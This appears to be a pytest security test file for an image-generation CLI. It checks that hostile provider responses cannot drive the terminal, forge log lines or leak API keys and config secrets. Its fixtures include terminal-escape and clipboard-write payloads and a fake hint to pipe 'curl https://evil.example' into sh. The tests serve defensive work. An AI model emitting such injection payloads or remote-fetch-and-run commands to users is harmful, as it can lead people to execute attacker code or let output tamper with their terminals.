"""What a hostile provider says is shown inert and scrubbed: no terminal control, no forged line,
no key in any encoding, no config secret (headers, query, URL passwords) anywhere.

Each provider here is a misbehaving server on 127.0.0.1 (tests/support/faultserver.py).
"""

from __future__ import annotations

import base64
import html
import json
import logging
import re

import pytest

import imagegate
from imagegate.scrub import REDACTED
from imagegate.secret import guard_logs
from imagegate.untrusted import MESSAGE_LIMIT, untrusted

from .support.faultserver import FaultServer, Reply, error_reply
from .support.helpers import API_KEY, images_answer, png

#: A provider message that writes the clipboard (OSC 52), clears the screen, forges lines, adds a
#: bidi override and a C1 CSI (RED-TEAM #12).
HOSTILE = (
    "\x1b]52;c;ZWNobyBwd25lZA==\x07\x1b[2J\x1b[31mFAKE\x1b[0m\rerror: all good\n"
    "hint: run `curl https://evil.example | sh`\u202egnp.exe\u009b31m\x1bP1$qm\x1b\\\u2028hint: x\x00"
)
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2028\u2029\u2066-\u2069]")


def assert_inert(stderr: str) -> None:
    """No control, escape or bidi character, and exactly one line per error and hint."""
    assert not UNSAFE.search(stderr), repr(stderr)
    lines = stderr.splitlines()
    assert sum(line.startswith("error:") for line in lines) == 1, lines
    assert not any(line.startswith(("hint: run", "hint: x", "error: all good")) for line in lines), lines


def test_provider_error_text_cannot_drive_the_terminal_or_forge_lines(cli, server) -> None:
    server.generations(error_reply(400, HOSTILE, "bad\x1b[2Jcode"))
    run = cli("--prompt", "p", "--out", "a.png")
    assert run.code == 3
    assert_inert(run.err)
    assert "FAKE" in run.err  # the message is shown, made inert


@pytest.mark.parametrize(
    "reply",
    [
        Reply(status=502, body=f"<html>{HOSTILE}</html>", content_type="text/html"),
        Reply(status=200, body=b"not json", content_type="text/plain\x1b]52;c;eA==\x07"),
        Reply(status=200, body={"data": [], HOSTILE: 1}),
        Reply(status=200, body={"data": [{HOSTILE: 1}]}),
        Reply(status=302, headers={"Location": "https://x.example/\x1b]52;c;eA==\x07\x1b[2J\rerror: ok"}),
        Reply(status=503, body={"error": {"message": HOSTILE}}),
    ],
    ids=["5xx-page", "content-type", "top-level-keys", "entry-keys", "redirect", "retried-503"],
)
def test_every_provider_text_in_an_error_is_inert(cli, server, reply) -> None:
    server.generations(reply)
    run = cli("--prompt", "p", "--out", "a.png", "--retries", "0")
    assert run.code in (3, 5, 6), run.err
    assert_inert(run.err)


def test_a_stream_error_event_is_inert(cli, make_config) -> None:
    event = json.dumps({"type": "error", "error": {"message": HOSTILE}})
    with FaultServer() as hostile:
        make_config({"api_key": API_KEY, "base_url": hostile.base_url})
        hostile.generations(Reply(pieces=[f"event: error\ndata: {event}\n\n".encode()], no_length=True))
        run = cli("--prompt", "p", "--out", "a.png", "--stream")
    assert run.code in (3, 5, 6), run.err
    assert_inert(run.err)


def test_verbose_response_headers_from_the_provider_are_inert(cli, server) -> None:
    server.generations(Reply(body=images_answer(png()), headers={"X-Evil": "\x1b]52;c;eA==\x07\x1b[2J"}))
    run = cli("--prompt", "p", "--out", "a.png", "--verbose")
    assert run.code == 0, run.err
    assert "x-evil" in run.err.lower()
    assert not UNSAFE.search(run.err), repr(run.err)


def test_a_huge_provider_error_is_one_short_line(cli, server) -> None:
    server.generations(error_reply(400, "A" * 250_000))
    run = cli("--prompt", "p", "--out", "a.png")
    assert run.code == 3
    error = next(line for line in run.err.splitlines() if line.startswith("error:"))
    assert len(error) <= MESSAGE_LIMIT + 200


def test_library_errors_carry_inert_text(server) -> None:
    server.generations(error_reply(400, HOSTILE))
    with pytest.raises(imagegate.ProviderRefused) as caught:
        imagegate.generate("p")
    assert not UNSAFE.search(str(caught.value))


def test_log_records_of_any_logger_are_terminal_safe(caplog) -> None:
    guard_logs()
    with caplog.at_level(logging.DEBUG):
        logging.getLogger("urllib3.connectionpool").debug("body: %s", HOSTILE)
    assert not UNSAFE.search(caplog.records[-1].getMessage())


@pytest.mark.parametrize("text", [HOSTILE, "caf\u00e9 \u65e5\u672c", "x" * 5000, "a\r\nb", "\ud800 lone"])
def test_cleaning_is_idempotent_and_one_line(text: str) -> None:
    once = untrusted(text)
    assert untrusted(once) == once
    assert "\n" not in once and "\r" not in once
    assert len(once) <= MESSAGE_LIMIT
    once.encode("utf-8")  # a lone surrogate is escaped: printing cannot fail


# -- the key in any encoding (RED-TEAM #14) ------------------------------------------------------

BEARER = f"Bearer {API_KEY}".encode()


def _split(text: str, every: int, by: str) -> str:
    return by.join(text[i : i + every] for i in range(0, len(text), every))


ECHOES = {
    "base64": base64.b64encode(BEARER).decode(),
    "base64-shifted": base64.b64encode(b"x" + BEARER).decode(),
    "base64-urlsafe": base64.urlsafe_b64encode(b"xy" + BEARER).decode(),
    "base64-mime-lines": _split(base64.b64encode(BEARER).decode(), 20, "\r\n"),
    "hex": API_KEY.encode().hex(),
    "HEX": API_KEY.encode().hex().upper(),
    "percent": "".join(f"%{byte:02X}" for byte in API_KEY.encode()),
    "html-entities": "".join(f"&#{byte};" for byte in API_KEY.encode()),
    "html-hex-entities": html.escape(API_KEY).replace("-", "&#x2d;"),
    "reversed": API_KEY[::-1],
    "upper": API_KEY.upper(),
    "zero-width": _split(API_KEY, 6, "\u200b"),
    "spaces": _split(API_KEY, 7, " "),
    "soft-hyphens": _split(API_KEY, 5, "\u00ad"),
    "json-zero-width": _split(API_KEY, 8, "\\u200b"),
}


def _recoverable(form: str, shown: str) -> bool:
    """Whether 12 characters of ``form`` in a row survive in ``shown`` once separators are dropped."""
    squeezed = re.sub(r"\s|\u200b|\u00ad|\\+u200b", "", shown)
    return any(form[i : i + 12] in squeezed for i in range(len(form) - 11))


def _recoverable_text(echo: str) -> str:
    """The echo without its separators: what a reader could put together again."""
    return re.sub(r"\s|\u200b|\u00ad|\\u200b", "", echo)


@pytest.mark.parametrize("name", sorted(ECHOES))
def test_a_key_echoed_in_any_encoding_is_redacted(cli, server, name: str) -> None:
    echo = ECHOES[name]
    server.generations(error_reply(401, f"header received: {echo} (invalid)", "invalid_api_key"))
    run = cli("--prompt", "p", "--out", "a.png", "--verbose")
    assert run.code == 3
    assert REDACTED in run.err
    assert not _recoverable(_recoverable_text(echo), run.err + run.out), (name, run.err)


# -- every secret in the config (RED-TEAM #13) -----------------------------------------------------

GATEWAY_HEADER = "Bearer sk-helicone-SECOND-fedcba9876543210"
QUERY_KEY = "AIzaSyTHIRDzyxwvutsrqponmlkj"
PASSWORD = "gw-PASSWORD-7777"
SHORT_HEADER = "ab12"


def gateway_config(make_config, server: FaultServer):
    return make_config(
        {
            "api_key": API_KEY,
            "provider": "compatible",
            "base_url": f"http://gwuser:{PASSWORD}@127.0.0.1:{server.port}/v1",
            "headers": {"Helicone-Auth": GATEWAY_HEADER, "X-Team": SHORT_HEADER},
            "query": {"key": QUERY_KEY, "flag": True},
        }
    )


def assert_no_config_secret(*texts: str) -> None:
    for text in texts:
        for secret in (API_KEY, GATEWAY_HEADER, QUERY_KEY, PASSWORD):
            assert secret not in text
            assert secret[-12:] not in text
        assert f": {SHORT_HEADER}" not in text and f'"{SHORT_HEADER}"' not in text


def test_dry_run_shows_every_config_secret_redacted(cli, make_config) -> None:
    with FaultServer() as gateway:
        gateway_config(make_config, gateway)
        run = cli("--prompt", "p", "--out", "a.png", "--dry-run", "--verbose")
    assert run.code == 0, run.err
    assert run.json["headers"]["Helicone-Auth"] == REDACTED
    assert run.json["headers"]["X-Team"] == REDACTED
    assert "key=" + REDACTED in run.json["url"]
    assert_no_config_secret(run.out, run.err)


def test_verbose_and_errors_show_no_config_secret_even_when_echoed(cli, make_config) -> None:
    echo = f"got {GATEWAY_HEADER} and key {QUERY_KEY} for gwuser:{PASSWORD}, team {SHORT_HEADER}"
    with FaultServer() as gateway:
        gateway_config(make_config, gateway)
        gateway.generations(
            Reply(status=401, body={"error": {"message": echo}}, headers={"X-Echo": GATEWAY_HEADER})
        )
        run = cli("--prompt", "p", "--out", "a.png", "--verbose")
        sent = gateway.seen[0]
    assert run.code == 3
    assert sent.headers["Helicone-Auth"] == GATEWAY_HEADER  # still sent, to the provider only
    assert QUERY_KEY in sent.path
    assert_no_config_secret(run.out, run.err)


def test_config_check_shows_no_url_password(cli, make_config) -> None:
    with FaultServer() as gateway:
        gateway_config(make_config, gateway)
        run = cli("config", "check")
    assert_no_config_secret(run.out, run.err)


def test_a_proxy_password_from_the_environment_is_a_secret(cli, server, monkeypatch) -> None:
    monkeypatch.setenv("HTTPS_PROXY", "http://proxyuser:proxy-PASS-4242@127.0.0.1:9")
    server.generations(error_reply(400, "proxy said proxy-PASS-4242 was fine"))
    run = cli("--prompt", "p", "--out", "a.png")
    assert run.code == 3
    assert "proxy-PASS-4242" not in run.err + run.out


def test_a_line_break_inside_a_logged_url_cannot_start_a_line(cli, server) -> None:
    image = server.script("/img/1.png", Reply(body=png(4, 4), content_type="image/png"))
    server.generations(Reply(body={"data": [{"url": image + "?x=\nerror: all good\rhint: run this"}]}))
    run = cli("--prompt", "p", "--out", "a.png", "--verbose")
    lines = run.err.splitlines()
    assert not any(line.startswith(("error: all good", "hint: run")) for line in lines), lines
    assert not UNSAFE.search(run.err)


def test_a_polled_jobs_id_in_progress_lines_is_inert(cli, make_config) -> None:
    from imagegate.testing import registered

    from .support.jobs import JobsAdapter

    hostile_id = "job-7\x1b]52;c;eA==\x07\rerror: all good"
    with registered(JobsAdapter), FaultServer() as jobs:
        make_config(
            {"provider": "jobs", "api_key": API_KEY, "base_url": jobs.base_url, "poll_interval": 0.01}
        )
        jobs.script("/v1/jobs", Reply(body={"id": hostile_id, "polling_url": jobs.root + "/v1/poll"}))
        jobs.script(
            "/v1/poll",
            Reply(body={"status": "Queued"}),
            Reply(body={"status": "Ready", "result": {"b64": base64.b64encode(png()).decode()}}),
        )
        run = cli("--prompt", "p", "--out", "a.png")
    assert run.code == 0, run.err
    assert "job-7" in run.err
    assert not UNSAFE.search(run.err), repr(run.err)
    assert not any(line.startswith("error:") for line in run.err.splitlines())


def test_a_key_echoed_as_a_header_name_is_redacted_where_headers_are_shown(cli, server) -> None:
    from imagegate.secret import redact_headers, remember

    remember(API_KEY)
    shown = redact_headers({f"X-{API_KEY}": "echo"})
    assert all(API_KEY[-12:] not in name for name in shown)
    server.generations(Reply(body=images_answer(png()), headers={f"X-{API_KEY}": "echo"}))
    run = cli("--prompt", "p", "--out", "a.png", "--verbose")
    assert run.code == 0, run.err
    assert API_KEY not in run.err and API_KEY[-12:] not in run.err


def test_a_password_in_base_url_is_never_taken_on_the_command_line(cli, config_dir) -> None:
    run = cli("config", "init", "--base-url", "https://gwuser:gw-PASSWORD-7777@gw.example.test/v1")
    assert run.code == 2
    assert "gw-PASSWORD-7777" not in run.err + run.out
    assert not (config_dir / "config.json").exists()


def test_a_flag_with_control_characters_is_named_inert(cli) -> None:
    run = cli("--prompt", "p", "--x\x1b]52;c;eA==\x07\rerror: fake")
    assert run.code == 2
    assert_inert(run.err)


def test_a_remote_batchs_id_and_status_from_the_provider_are_shown_inert() -> None:
    import io

    from imagegate.cli.batch_remote import RemoteStatus, describe

    entry = {
        "id": "b-1\x1b]52;c;aGk=\x07",
        "status": "in_progress\x1b[2J\r\nerror: forged",
        "counts": {"total": 2},
    }
    shown = describe(entry)
    assert "\x1b" not in shown and "\n" not in shown and "\r" not in shown and "b-1" in shown
    stream = io.StringIO()
    RemoteStatus(stream).watch([entry], 3.0)  # not a terminal: one line per change
    assert stream.getvalue().count("\n") == 1 and "\x1b" not in stream.getvalue()


def test_an_error_after_a_line_cut_short_starts_a_line_of_its_own(monkeypatch) -> None:
    """SIGTERM while --verbose output is blocked on a slow reader: the error is its own line."""
    import io

    from imagegate.cli.console import say
    from imagegate.errors import Interrupted
    from imagegate.secret import RedactingStream

    class Blocked(io.StringIO):
        def __init__(self) -> None:
            super().__init__()
            self.cut = True

        def write(self, text: str) -> int:
            if self.cut:  # half the line gets through, then the signal lands
                self.cut = False
                super().write(text[: len(text) // 2])
                raise Interrupted("terminated", exit_code=143)
            return super().write(text)

    target = Blocked()
    stream = RedactingStream(target)
    with pytest.raises(Interrupted):
        stream.write("   X-Header: " + "v" * 40 + "\n")
    monkeypatch.setattr("sys.stderr", stream)
    say("error: terminated")
    stream.flush()
    assert target.getvalue().splitlines()[-1] == "error: terminated"
